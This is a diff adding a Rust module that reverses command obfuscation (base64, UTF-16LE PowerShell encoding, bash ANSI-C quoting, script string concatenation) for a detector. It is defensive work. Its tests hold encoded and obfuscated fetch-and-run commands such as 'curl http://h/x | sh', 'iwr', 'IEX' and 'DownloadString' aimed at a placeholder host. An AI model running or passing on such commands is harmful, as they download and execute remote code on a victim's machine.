@@ -1,0 +1,259 @@
+//! Undoing the common disguises of command text: base64 (plain or the
+//! UTF-16LE that `powershell -EncodedCommand` takes), bash ANSI-C quoting
+//! (`$'\x63url'`), and string concatenation and backtick escapes in
+//! PowerShell, JScript and VBScript (`('Down'+'loadString')`). Each returns
+//! text only when the result is plausible command text, so random base64
+//! (keys, hashes) is left alone.
+
+/// Shortest base64 run worth decoding (a command needs some length).
+const MIN_BASE64: usize = 16;
+/// Longest base64 run decoded (a payload larger than this is not a command line).
+const MAX_BASE64: usize = 1 << 20;
+
+fn b64_value(c: u8) -> Option<u32> {
+    Some(match c {
+        b'A'..=b'Z' => c - b'A',
+        b'a'..=b'z' => c - b'a' + 26,
+        b'0'..=b'9' => c - b'0' + 52,
+        b'+' | b'-' => 62,
+        b'/' | b'_' => 63,
+        _ => return None,
+    } as u32)
+}
+
+/// Decode base64 (standard or URL-safe alphabet, padding optional) of at
+/// least [`MIN_BASE64`] characters.
+pub fn base64(s: &str) -> Option<Vec<u8>> {
+    decode_base64(s, MIN_BASE64)
+}
+
+fn decode_base64(s: &str, min: usize) -> Option<Vec<u8>> {
+    let s = s.trim().trim_end_matches('=');
+    if s.len() < min || s.len() > MAX_BASE64 {
+        return None;
+    }
+    let mut bits = 0u32;
+    let mut n = 0;
+    let mut out = Vec::with_capacity(s.len() * 3 / 4);
+    for c in s.bytes() {
+        let v = b64_value(c)?;
+        bits = (bits << 6) | v;
+        n += 6;
+        if n >= 8 {
+            n -= 8;
+            out.push((bits >> n) as u8);
+            bits &= (1 << n) - 1;
+        }
+    }
+    Some(out)
+}
+
+fn printable(c: char) -> bool {
+    c == '\n' || c == '\r' || c == '\t' || (' '..='~').contains(&c) || !c.is_control()
+}
+
+/// Text that reads like a command: almost all printable, some letters.
+fn plausible(t: &str) -> bool {
+    let n = t.chars().count();
+    n >= 4
+        && t.chars().filter(|c| printable(*c)).count() * 100 >= n * 95
+        && t.chars().filter(|c| c.is_ascii_alphabetic()).count() * 3 >= n
+}
+
+/// Bytes as UTF-16LE text, when they are (most high bytes zero).
+pub fn utf16le(b: &[u8]) -> Option<String> {
+    if b.len() < 8 {
+        return None;
+    }
+    let units: Vec<u16> = b
+        .chunks_exact(2)
+        .map(|p| u16::from_le_bytes([p[0], p[1]]))
+        .collect();
+    let ascii = units.iter().filter(|u| **u < 0x80).count();
+    if ascii * 10 < units.len() * 9 {
+        return None;
+    }
+    let t = String::from_utf16_lossy(&units);
+    plausible(&t).then_some(t)
+}
+
+/// Base64 of UTF-16LE text (what `-EncodedCommand` takes).
+pub fn encoded_powershell(s: &str) -> Option<String> {
+    utf16le(&base64(s.trim_matches(['"', '\'']))?)
+}
+
+/// Base64 of UTF-8 (or UTF-16LE) text found in code, at least
+/// [`MIN_BASE64`] characters.
+pub fn base64_text(s: &str) -> Option<String> {
+    text_of(base64(s.trim_matches(['"', '\'']))?)
+}
+
+/// Base64 text an explicit decoder is given (`echo … | base64 -d | sh`),
+/// however short.
+pub fn decoded_text(s: &str) -> Option<String> {
+    text_of(decode_base64(s.trim_matches(['"', '\'']), 4)?)
+}
+
+fn text_of(b: Vec<u8>) -> Option<String> {
+    if let Some(t) = utf16le(&b) {
+        return Some(t);
+    }
+    let t = String::from_utf8(b).ok()?;
+    plausible(&t).then_some(t)
+}
+
+/// Runs of base64 characters at least [`MIN_BASE64`] long inside `text`
+/// (`[Convert]::FromBase64String('…')`).
+pub fn base64_runs(text: &str) -> impl Iterator<Item = &str> {
+    text.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '-' | '_')))
+        .filter(|r| {
+            r.len() >= MIN_BASE64 * 2
+                && r.bytes()
+                    .any(|b| b.is_ascii_digit() || b.is_ascii_uppercase())
+        })
+}
+
+/// Bash ANSI-C quoting (`$'…'` body): `\xHH`, `\NNN`, `\uHHHH`, `\n`, ….
+pub fn ansi_c(body: &str) -> String {
+    let b = body.as_bytes();
+    let mut out = String::new();
+    let mut i = 0;
+    while i < b.len() {
+        if b[i] != b'\\' || i + 1 >= b.len() {
+            let ch = body[i..].chars().next().unwrap_or(' ');
+            out.push(ch);
+            i += ch.len_utf8();
+            continue;
+        }
+        let radix_digits = |from: usize, radix: u32, max: usize| {
+            let n = b[from..]
+                .iter()
+                .take(max)
+                .take_while(|c| (**c as char).is_digit(radix))
+                .count();
+            let v = u32::from_str_radix(&body[from..from + n], radix).ok();
+            (v, n)
+        };
+        let (value, used) = match b[i + 1] {
+            b'x' => radix_digits(i + 2, 16, 2),
+            b'u' => radix_digits(i + 2, 16, 4),
+            b'0'..=b'7' => {
+                let (v, n) = radix_digits(i + 1, 8, 3);
+                (v, n.saturating_sub(1))
+            }
+            c => {
+                let v = match c {
+                    b'n' => '\n',
+                    b't' => '\t',
+                    b'r' => '\r',
+                    b'a' | b'b' | b'e' | b'E' | b'f' | b'v' => ' ',
+                    other => other as char,
+                };
+                out.push(v);
+                i += 2;
+                continue;
+            }
+        };
+        match value.and_then(char::from_u32) {
+            Some(ch) => {
+                out.push(ch);
+                i += 2 + used;
+            }
+            None => {
+                out.push('\\');
+                i += 1;
+            }
+        }
+    }
+    out
+}
+
+/// Script text with string concatenation (`'a'+'b'`, `"a" & "b"`) joined
+/// and PowerShell backtick escapes dropped.
+pub fn joined_strings(text: &str) -> String {
+    if !text.contains(['+', '&', '`']) {
+        return text.to_string();
+    }
+    let b = text.as_bytes();
+    let mut out = String::with_capacity(text.len());
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        if c == b'`' {
+            i += 1;
+            continue;
+        }
+        if c == b'\'' || c == b'"' {
+            // quote, blanks, + or &, blanks, the same quote: one string.
+            let mut j = i + 1;
+            while j < b.len() && b[j] == b' ' {
+                j += 1;
+            }
+            if j < b.len() && (b[j] == b'+' || b[j] == b'&') {
+                let mut k = j + 1;
+                while k < b.len() && b[k] == b' ' {
+                    k += 1;
+                }
+                if k < b.len() && b[k] == c {
+                    i = k + 1;
+                    continue;
+                }
+            }
+        }
+        let ch = text[i..].chars().next().unwrap_or(' ');
+        out.push(ch);
+        i += ch.len_utf8();
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn base64_forms() {
+        // "iwr http://h/x" in UTF-16LE, base64 (no padding too).
+        let ps = "aQB3AHIAIABoAHQAdABwADoALwAvAGgALwB4AA==";
+        assert_eq!(encoded_powershell(ps).as_deref(), Some("iwr http://h/x"));
+        assert_eq!(
+            encoded_powershell(ps.trim_end_matches('=')).as_deref(),
+            Some("iwr http://h/x")
+        );
+        // "curl http://h/x | sh" in UTF-8.
+        assert_eq!(
+            base64_text("Y3VybCBodHRwOi8vaC94IHwgc2g=").as_deref(),
+            Some("curl http://h/x | sh")
+        );
+        // Random bytes (a key) are not text.
+        assert_eq!(base64_text("q83vEjRWeJq83vEjRWeJq83vEjRWeJ0="), None);
+        assert_eq!(encoded_powershell("short"), None);
+        let runs: Vec<&str> =
+            base64_runs("[Convert]::FromBase64String('aQB3AHIAIABoAHQAdABwADoALwAvAGgALwB4AA==')")
+                .collect();
+        assert_eq!(runs, [ps]);
+    }
+
+    #[test]
+    fn ansi_c_quoting() {
+        assert_eq!(ansi_c("\\x63url"), "curl");
+        assert_eq!(ansi_c("\\143\\165rl"), "curl");
+        assert_eq!(ansi_c("w\\u0067et\\n"), "wget\n");
+        assert_eq!(ansi_c("a\\'b\\\\"), "a'b\\");
+        assert_eq!(ansi_c("\\xZZ"), "\\xZZ");
+    }
+
+    #[test]
+    fn concatenation_is_joined() {
+        assert_eq!(
+            joined_strings("(New-Object Net.WebClient).('Down'+'loadString')('ht'+ 'tp://h/x')"),
+            "(New-Object Net.WebClient).('DownloadString')('http://h/x')"
+        );
+        assert_eq!(
+            joined_strings("CreateObject(\"MSXML2.\" & \"XMLHTTP\")"),
+            "CreateObject(\"MSXML2.XMLHTTP\")"
+        );
+        assert_eq!(joined_strings("I`E`X (iw`r h)"), "IEX (iwr h)");
+        assert_eq!(joined_strings("a + b"), "a + b");
+    }
+}
